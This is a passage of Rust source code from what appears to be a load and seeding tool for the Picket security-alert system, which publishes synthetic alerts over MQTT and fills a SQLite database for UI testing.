                for f in &frames {
                    client
                        .publish(
                            topic::topic(dev.id, Channel::Alerts).as_str(),
                            QoS::AtLeastOnce,
                            false,
                            f.clone(),
                        )
                        .await?;
                }
                wait_acks(&mut acks, frames.len()).await?;
            }
            let _ = client.disconnect().await;
            anyhow::Ok((n, republished))
        });
    }
    let mut total = 0;
    let mut again = 0;
    while let Some(r) = tasks.join_next().await {
        let (n, republished) = r??;
        total += n;
        again += usize::from(republished > 0);
    }
    println!(
        "published {total} alerts from {} devices in {:.1} s; {again} devices had to publish again \
         because the backend had not stored everything the broker acknowledged",
        active.len(),
        t0.elapsed().as_secs_f64()
    );
    Ok(())
}

/// Publishes one alert per stdin line as device 0 of the state file.
async fn publish(a: Args) -> anyhow::Result<()> {
    let mqtt: SocketAddr = a.mqtt.parse().context("--mqtt host:port")?;
    let state: serde_json::Value = serde_json::from_slice(&std::fs::read(&a.state)?)?;
    let dev = Device::from_json(&state["devices"][0])?;
    let (client, mut acks) = dev.connect(mqtt).await?;
    let mut rng = Rng(now_ms() as u64);
    let topic = topic::topic(dev.id, Channel::Alerts);
    // Sequence numbers above anything a previous run used.
    let mut seq = now_ms() as u64;
    println!(
        "{}",
        serde_json::json!({ "ready": true, "device": dev.id.to_string() })
    );
    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel::<String>();
    std::thread::spawn(move || {
        for line in std::io::stdin().lock().lines().map_while(Result::ok) {
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    while let Some(line) = rx.recv().await {
        if line.trim().is_empty() {
            continue;
        }
        let req: serde_json::Value = serde_json::from_str(&line)?;
        if let Some(n) = req["burst"].as_u64() {
            let per_sec = req["per_sec"].as_u64().unwrap_or(1000).max(10);
            let r = burst(&dev, &client, &mut acks, &mut rng, &mut seq, n, per_sec).await?;
            println!("{r}");
            continue;
        }
        seq += 1;
        let mut s = spec(&mut rng, seq, now_ms() as u64);
        let str_of = |k: &str| req[k].as_str().map(str::to_owned);
        let level = str_of("level").map_or(Level::High, |l| parse_level(&l));
        // A rule of its own when asked for one, so tests can filter on it.
        let custom: &'static RuleDef = Box::leak(Box::new(RuleDef {
            id: Box::leak(
                str_of("rule_id")
                    .or_else(|| str_of("rule_title").map(|_| "picket-ui-test".to_owned()))
                    .unwrap_or_else(|| RULES[0].id.to_owned())
                    .into_boxed_str(),
            ),
            title: Box::leak(
                str_of("rule_title")
                    .unwrap_or_else(|| RULES[0].title.to_owned())
                    .into_boxed_str(),
            ),
            level,
            techniques: &[(1059, 4)],
            author: Box::leak(
                str_of("author")
                    .unwrap_or_else(|| "Picket UI tests".to_owned())
                    .into_boxed_str(),
            ),
            kind: RULES[0].kind,
            weight: 1,
        }));
        s.rule = custom;
        if s.parent.is_empty() {
            // The random pick was a file or network rule: a process needs a parent.
            s.parent = SHELLS[0];
        }
        if let Some(c) = str_of("command_line") {
            // The image is the program the command line runs, when it names one.
            if let Some(first) = c.split_whitespace().next().filter(|f| f.starts_with('/')) {
                first.clone_into(&mut s.image);
            }
            s.command_line = c;
        }
        if let Some(i) = str_of("image") {
            s.image = i;
        }
        let frame = batch_frame(&dev, std::slice::from_ref(&s))?;
        let sent_ms = now_ms();
        client
            .publish(topic.as_str(), QoS::AtLeastOnce, false, frame)
            .await?;
        wait_acks(&mut acks, 1).await?;
        println!(
            "{}",
            serde_json::json!({
                "id": alert_id(dev.id, seq).to_string(),
                "sent_ms": sent_ms,
                "acked_ms": now_ms(),
                "level": level_name(level),
            })
        );
    }
    Ok(())
}

/// Publishes `n` random alerts at about `per_sec` a second, a batch every
/// 100 ms, and answers how long it took.
async fn burst(
    dev: &Device,
    client: &AsyncClient,
    acks: &mut tokio::sync::mpsc::UnboundedReceiver<()>,
    rng: &mut Rng,
    seq: &mut u64,
    n: u64,
    per_sec: u64,
) -> anyhow::Result<serde_json::Value> {
    let topic = topic::topic(dev.id, Channel::Alerts);
    let per_batch = (per_sec / 10).clamp(1, 128);
    let started_ms = now_ms();
    let mut tick = tokio::time::interval(Duration::from_millis(100));
    let mut sent = 0;
    let mut frames = 0;
    while sent < n {
        tick.tick().await;
        let k = per_batch.min(n - sent);
        let specs: Vec<Spec> = (0..k)
            .map(|_| {
                *seq += 1;
                spec(rng, *seq, now_ms() as u64)
            })
            .collect();
        client
            .publish(
                topic.as_str(),
                QoS::AtLeastOnce,
                false,
                batch_frame(dev, &specs)?,
            )
            .await?;
        sent += k;
        frames += 1;
    }
    wait_acks(acks, frames).await?;
    Ok(serde_json::json!({
        "burst": sent,
        "last_id": alert_id(dev.id, *seq).to_string(),
        "started_ms": started_ms,
        "acked_ms": now_ms(),
    }))
}

/// Writes `--alerts` random alerts of the devices already in the SQLite
/// database `--db` straight into it (the backend must be stopped): for
/// measuring the UI over a table far larger than MQTT seeding fills quickly.
async fn fill_db(a: Args) -> anyhow::Result<()> {
    use picket_store::Store as _;
    let t0 = std::time::Instant::now();
    let store =
        picket_store::sqlite::SqliteStore::open(&a.db).with_context(|| format!("open {}", a.db))?;
    let devices: Vec<String> = store
        .devices()
        .await?
        .into_iter()
        .filter(|d| d.revoked_ms.is_none())
        .map(|d| d.id)
        .collect();
    if devices.is_empty() {
        bail!("{}: no devices (seed some over MQTT first)", a.db);
    }
    let now = now_ms() as u64;
    let mut rng = Rng(now);
    // Sequence numbers far above what the devices published over MQTT.
    let base = 1u64 << 40;
    let mut done = 0;
    while done < a.alerts {
        let k = 10_000.min(a.alerts - done);
        let batch: Vec<picket_store::model::NewAlert> = (0..k)
            .map(|j| {
                let i = done + j;
                let device = &devices[i % devices.len()];
                // Over the last 30 days, denser towards now.
                let f = (rng.below(1_000_000) as f64 / 1e6).powf(2.0);
                let ts = now - 60_000 - (f * 30.0 * 86_400_000.0) as u64;
                let s = spec(&mut rng, base + (i / devices.len()) as u64, ts);
                stored_alert(device, &s, now as i64)
            })
            .collect();
        store.insert_alerts(&batch).await?;
        done += k;
        if done % 100_000 == 0 || done == a.alerts {
            println!(
                "{done} alerts written ({:.0} s)",
                t0.elapsed().as_secs_f64()
            );
        }
    }
    Ok(())
}

/// The stored form of a seeded alert, as the backend's ingest writes it.
fn stored_alert(device: &str, s: &Spec, received_ms: i64) -> picket_store::model::NewAlert {
    use picket_store::model::{AlertSource, Level as L, NewAlert};
    let r = s.rule;
    let mut id = [0u8; 16];
    id[..8].copy_from_slice(&unhex(&device[..16]).unwrap_or_else(|_| vec![0; 8]));
    id[8..].copy_from_slice(&s.seq.to_be_bytes());
    let nonempty = |x: &str| (!x.is_empty()).then(|| x.to_owned());
    let (command_line, path, event) = match r.kind {
        Kind::Proc(..) => (
            nonempty(&s.command_line),
            None,
            serde_json::json!({
                "type": "process", "pid": 1000 + s.pick % 30_000, "ppid": 400 + s.pick % 600,
                "uid": 0, "gid": 0, "image": s.image, "command_line": s.command_line,
                "parent_image": s.parent, "parent_command_line": s.parent, "cwd": "/tmp",
                "user": "root", "rule_author": r.author,
            }),
        ),
        Kind::File(..) => (
            None,
            nonempty(&s.command_line),
            serde_json::json!({
                "type": "file", "pid": 1000 + s.pick % 30_000, "uid": 0, "image": s.image,
                "path": s.command_line, "action": "write", "rule_author": r.author,
            }),
        ),
        Kind::Net(..) => (
            None,
            None,
            serde_json::json!({
                "type": "network", "pid": 1000 + s.pick % 30_000, "uid": 0, "image": s.image,
                "rule_author": r.author,
            }),
        ),
    };
    NewAlert {
        id: hex(&id),
        device_id: device.to_owned(),
        seq: s.seq,
        timestamp_ms: s.ts as i64,
        received_ms,
        level: match r.level {
            Level::Informational => L::Informational,
            Level::Low => L::Low,
            Level::Medium => L::Medium,
            Level::High => L::High,
            Level::Critical => L::Critical,
        },
        source: AlertSource::Appliance,
        rule_id: r.id.to_owned(),
        rule_title: r.title.to_owned(),
        techniques: techniques(r).iter().map(ToString::to_string).collect(),
        image: nonempty(&s.image),
        command_line,
        path,
        event,
    }
}

#[tokio::main(flavor = "multi_thread", worker_threads = 2)]
async fn main() -> anyhow::Result<()> {
    let a = args()?;
    match a.mode.as_str() {
        "fill" => fill(a).await,
        "publish" => publish(a).await,
        "fill-db" => fill_db(a).await,
        m => bail!("unknown mode {m}: fill, publish or fill-db"),
    }
}
